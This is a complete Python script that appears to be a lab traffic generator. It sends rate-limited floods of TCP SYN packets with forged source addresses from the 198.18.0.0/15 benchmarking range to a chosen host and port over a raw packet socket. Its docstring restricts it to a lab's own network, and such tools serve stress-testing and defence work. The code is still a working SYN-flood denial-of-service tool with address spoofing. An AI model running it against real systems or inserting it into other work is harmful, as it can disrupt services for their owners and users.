#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""syn_flood.py INTERFACE MAC TO RATE SECONDS [PORT] - SYNs to TO, port 443,
from forged addresses in 198.18.0.0/15 (RFC 2544), never more than RATE a second.
Prints how many were sent and in what time. For a lab's own network only."""

import contextlib
import random
import socket
import struct
import sys
import time

PACKETS = 20000
BATCH = 100


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(number, to_mac, to, port):
    source = struct.pack("!I", (198 << 24 | 18 << 16) + number * 6)
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), port,
                      random.getrandbits(32), 0, 0x60, 2, 64240, 0, 0)
    tcp += struct.pack("!BBH", 2, 4, 1460)
    pseudo = source + to + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), number & 0xFFFF,
                     0, 64, 6, 0, source, to)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return to_mac + b"\x02\0\0\0\0\1" + b"\x08\0" + ip + tcp


def main():
    interface, mac, to = sys.argv[1:4]
    rate, seconds = int(sys.argv[4]), float(sys.argv[5])
    to_mac = bytes.fromhex(mac.replace(":", ""))
    port = int(sys.argv[6]) if len(sys.argv) > 6 else 443
    packets = [syn(i, to_mac, socket.inet_aton(to), port) for i in range(PACKETS)]
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((interface, 0))
    print("ready", flush=True)
    sent, begin = 0, time.monotonic()
    while (spent := time.monotonic() - begin) < seconds:
        if sent > rate * spent:
            time.sleep(0.0005)
            continue
        for _ in range(BATCH):
            with contextlib.suppress(OSError):  # the interface's queue is full
                out.send(packets[sent % PACKETS])
            sent += 1
    print(f'{{"sent": {sent}, "seconds": {spent:.3f}}}', flush=True)


main()
